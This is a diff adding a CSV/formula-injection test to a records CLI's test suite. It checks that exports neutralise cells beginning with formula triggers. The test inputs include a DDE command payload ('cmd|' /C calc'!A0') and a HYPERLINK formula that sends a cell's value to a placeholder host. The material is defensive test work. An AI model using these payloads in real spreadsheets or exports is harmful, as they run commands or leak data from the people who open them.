@@ -145,6 +145,49 @@ ok 'a workbook' "$cli" records export accounts export out.xlsx
 ok 'has typed cells and no formulas' python3 -c 'import zipfile
 sheet = zipfile.ZipFile ("out.xlsx").read ("xl/worksheets/sheet1.xml").decode ()
 assert "<f>" not in sheet and "=HYPERLINK(" in sheet and "<v>-1200.5</v>" in sheet and "<v>46447</v>" in sheet, sheet'
+cat >triggers.py <<'END'
+"""Tables of every beginning that a spreadsheet could take for a formula, in every kind of text."""
+import csv, re, subprocess, sys, zipfile
+from xml.etree import ElementTree
+
+cli, triggers = sys.argv[1], "=+-@\t\r＝＋－＠"
+bodies = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://example.invalid/?x="&A1,"y")', "SUM(1)*cmd", "a"]
+texts = [trigger + body for trigger in triggers for body in bodies] + ["'" + trigger + "1+1" for trigger in triggers]
+kinds = {"accounts": ["name", "note", "region", "technologies"], "contacts": ["name", "note", "department"],
+         "personas": ["name", "quote", "goals"], "jobs": ["statement", "why"]}
+cells = 0
+for kind, columns in kinds.items():
+    with open("triggers.csv", "w", newline="") as f:
+        rows = csv.writer(f)
+        rows.writerow(columns)
+        rows.writerows([text + str(i) if column == 0 else text for column in range(len(columns))] for i, text in enumerate(texts))
+    folder = "triggers-" + kind
+    subprocess.run([cli, "--data-dir", folder, "records", "import", kind, "triggers.csv"], check=True, stdout=subprocess.DEVNULL)
+    for ending in "csv", "xlsx":
+        subprocess.run([cli, "--data-dir", folder, "records", "export", kind, "triggers." + ending], check=True)
+    with open("triggers.csv", newline="") as f:
+        rows = list(csv.reader(f))
+        assert len(rows) > len(texts) * 0.9, (kind, len(rows))
+        for cell in (cell for row in rows for cell in row if cell):
+            assert cell[0] not in triggers or re.fullmatch("[+-]?[0-9.,]+", cell), (kind, cell)
+            cells += 1
+    with zipfile.ZipFile("triggers.xlsx") as book:
+        assert not [name for name in book.namelist() if re.search("vba|external|connection|query", name, re.I)], book.namelist()
+        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
+        space = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
+        assert not list(sheet.iter(space + "f")) and not list(sheet.iter(space + "hyperlink")), kind
+        found = [cell for cell in sheet.iter(space + "c") if len(cell)]
+        assert len(found) > len(texts), (kind, len(found))
+        # A text is a text by its type; what has none is a number.
+        for cell in found:
+            assert cell.get("t") in ("s", "inlineStr", None), (kind, cell.get("t"))
+            assert cell.get("t") or float(cell.find(space + "v").text) is not None
+        cells += len(found)
+print("# promise 11: %d cells of tables whose texts begin like formulas, 0 that a spreadsheet would run" % cells)
+END
+python3 triggers.py "$cli" >triggers.txt 2>&1
+sed 's/^[^#]/# &/' triggers.txt
+ok 'no text of any kind is a formula in a table' grep -q '^# promise 11: ' triggers.txt
 fails 'an unknown format is wrong usage' 2 "$cli" records export accounts out.txt
 fails 'nowhere to write' 1 "$cli" records export accounts none/out.csv
 is 'nothing is left of it' "$(ls | grep -c part)" 0
